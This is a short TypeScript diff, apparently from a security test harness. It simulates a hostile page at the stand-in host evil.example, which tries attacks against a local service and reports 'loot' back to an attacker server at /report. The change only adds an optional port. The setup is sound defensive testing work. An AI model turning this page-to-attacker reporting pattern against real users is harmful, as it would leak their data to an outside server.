@@ -26,9 +26,9 @@ const sendPage = (response: ServerResponse, html: string) =>
 
 const lootSchema = z.record(z.string(), z.string())
 
-/** Lets a page of `http://evil.example` try all that; every name leads to this machine. */
-export async function fromEvilPage(attempts: Attempts): Promise<Loot> {
-  const { url, reported, end } = await openReport((report) => page(attempts, report))
+/** Lets a page of `http://evil.example:PORT` try all that; every name leads to this machine. */
+export async function fromEvilPage(attempts: Attempts, port?: number): Promise<Loot> {
+  const { url, reported, end } = await openReport((report) => page(attempts, report), port)
   const browser = await openPage(url, [`MAP * ${loopback}`])
   try {
     return await reported
@@ -76,9 +76,9 @@ export async function fromReboundPage(port: number, attempts: Attempts): Promise
 }
 
 /** The attacker's own server: gives the page, and hears what it got. */
-async function openReport(html: (report: string) => string) {
+async function openReport(html: (report: string) => string, wanted?: number) {
   const { promise: reported, resolve, reject } = Promise.withResolvers<Loot>()
-  const port = await freePort()
+  const port = wanted ?? (await freePort())
   const url = `http://evil.example:${port}/`
   const reportUrl = `${url}report`
   const server = createServer(async (request, response) => {
